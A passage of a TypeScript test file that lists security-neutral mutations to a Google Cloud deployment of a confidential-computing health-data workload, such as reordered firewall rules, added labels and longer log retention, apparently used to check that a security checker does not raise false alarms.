  same.vm('redirect-absent', metadata('tee-container-log-redirect', undefined)),
  same.vm('service-agents-role', grant('example-phi-workload', 'roles/monitoring.metricWriter', `serviceAccount:${TEE_ACCOUNT}`)),
  same.vm('description', set(TEE, 'description', 'The TEE')),
  same.vm('extra-label', edit(TEE, (values) => { object(values['labels'])['team'] = 'platform'; })),
  same.vm('slower-healing', edit('RegionInstanceGroupManager tee', (values) => { object(values['autoHealingPolicies'])['initialDelaySec'] = 600; })),
  same.net('rules-reordered', rules((all) => void all.reverse())),
  same.net('rule-renumbered', rule('deny-egress-ipv4', (one) => { one['priority'] = 65_000; })),
  same.net('rule-described', rule('deny-egress-ipv4', (one) => { one['description'] = 'nothing else leaves'; })),
  same.net('explicit-enabled', rule('deny-egress-ipv4', (one) => { one['disabled'] = false; })),
  same.net('extra-deny', rules((all) => void all.push({ ruleName: 'deny-telnet', priority: 5, direction: 'INGRESS', action: 'deny', enableLogging: true, match: { srcIpRanges: ['0.0.0.0/0'], layer4Configs: [{ ipProtocol: 'tcp', ports: ['23'] }] } }))),
  same.net('classic-deny', adding('gcp:compute/firewall:Firewall', 'classic', { network: NETWORK, priority: 1, sourceRanges: ['0.0.0.0/0'], denies: [{ protocol: 'all' }], logConfig: { metadata: 'INCLUDE_ALL_METADATA' } })),
  same.net('faster-flow-logs', set('Subnetwork network-tee', 'logConfig.aggregationInterval', 'INTERVAL_30_SEC')),
  same.net('dns-ttl', set('RecordSet network-gcr-io-a', 'ttl', 60)),
  same.net('perimeter-more-services', status((one) => void array(one['restrictedServices']).push('bigquery.googleapis.com'))),
  same.net('perimeter-services-reordered', status((one) => void array(one['restrictedServices']).reverse())),
  same.net('perimeter-fewer-people', status((one) => void array(object(object(array(one['ingressPolicies'])[0])['ingressFrom'])['identities']).pop())),
  same.net('store-soft-delete', set('Bucket phi-store', 'softDeletePolicy.retentionDurationSeconds', 2_592_000)),
  same.net('private-zone', (artifact) => add(artifact, 'gcp:dns/managedZone:ManagedZone', 'internal', { ...structuredClone(inputs(artifact, 'ManagedZone network-gcr-io')), name: 'internal', dnsName: 'internal.hospital.example.' })),
  same.log('vault-ten-years', set('ProjectBucketConfig logs', 'retentionDays', 3650)),
  same.log('archive-ten-years', set('Bucket logs-archive', 'retentionPolicy.retentionPeriod', '315360000')),
  same.log('archive-cold-storage', set('Bucket logs-archive', 'lifecycleRules', [{ action: { type: 'SetStorageClass', storageClass: 'ARCHIVE' }, condition: { age: 90 } }])),
  same.log('audit-reordered', edit('IAMAuditConfig logs-keys', (values) => void array(values['auditLogConfigs']).reverse())),
  same.log('sink-described', set('ProjectSink logs-keys-bucket', 'description', 'everything')),
  same.log('sink-explicitly-on', set('ProjectSink logs-keys-bucket', 'disabled', false)),
  same.log('log-viewer', grant('example-phi-workload', 'roles/logging.viewer', 'group:auditors@hospital.example')),
  same.log('alert-limited', edit('AlertPolicy alerts-keys-key-policy', (values) => { object(object(values['alertStrategy'])['notificationRateLimit'])['period'] = '600s'; })),
  same.tag('extra-label-on-store', edit('Bucket phi-store', (values) => { object(values['labels'])['cost-centre'] = 'c-17'; })),
  same.tag('steps-reordered', (artifact) => { array(artifact['steps']).reverse(); }),
  same.tag('unchanged-resources', (artifact) => { for (const one of steps(artifact)) one['op'] = 'same'; }),
  same.tag('unrelated-service', adding('gcp:projects/service:Service', 'monitoring', { project: 'example-phi-workload', service: 'cloudtrace.googleapis.com', disableOnDestroy: false })),
  same.tag('renamed-rule', rule('google-apis', (one) => { one['ruleName'] = 'apis'; })),
  same.key('claims-of-every-token', condition((text) => `${text} && assertion.oemid == 11129 && "INTEL" in assertion.attester_tcb`)),
  same.key('entitlement-to-look', entitlement('roles/monitoring.viewer', 'group:auditors@hospital.example')),
  same.key('guardrail-spelled-otherwise', both(set('Policy guardrails-workload-compute.requireShieldedVm', 'spec', { rules: [{ enforce: 'true' }] }), set('Policy guardrails-keys-cloudkms.allowedProtectionLevels', 'spec', { rules: [{ values: { allowedValues: ['HSM'] } }] }))),
  same.net('perimeter-fewer-calls', status((one) => void array(object(object(array(one['ingressPolicies'])[0])['ingressTo'])['operations']).pop())),
  same.net('all-rules-renumbered', rules((all) => { for (const one of all) object(one)['priority'] = Number(object(one)['priority']) + 100; })),
  same.log('audit-through-a-provider', through('IAMAuditConfig logs-keys', { project: 'example-phi-keys' }, 'project')),
  same.log('filter-on-lines', edit('AlertPolicy alerts-keys-deny-policy', (values) => { const one = object(object(array(values['conditions'])[0])['conditionMatchedLog']); one['filter'] = string(one['filter']).split(' AND ').reverse().join('\n'); })),
  same.log('dashboard', adding('gcp:monitoring/dashboard:Dashboard', 'board', { project: 'example-phi-workload', dashboardJson: '{}' })),
];

export const gcp: readonly Mutator[] = [...KEY_WEAKENINGS, ...AROUND, ...VM_WEAKENINGS, ...NETWORK_WEAKENINGS, ...LOG_WEAKENINGS, ...TAG_WEAKENINGS, ...HARMLESS];
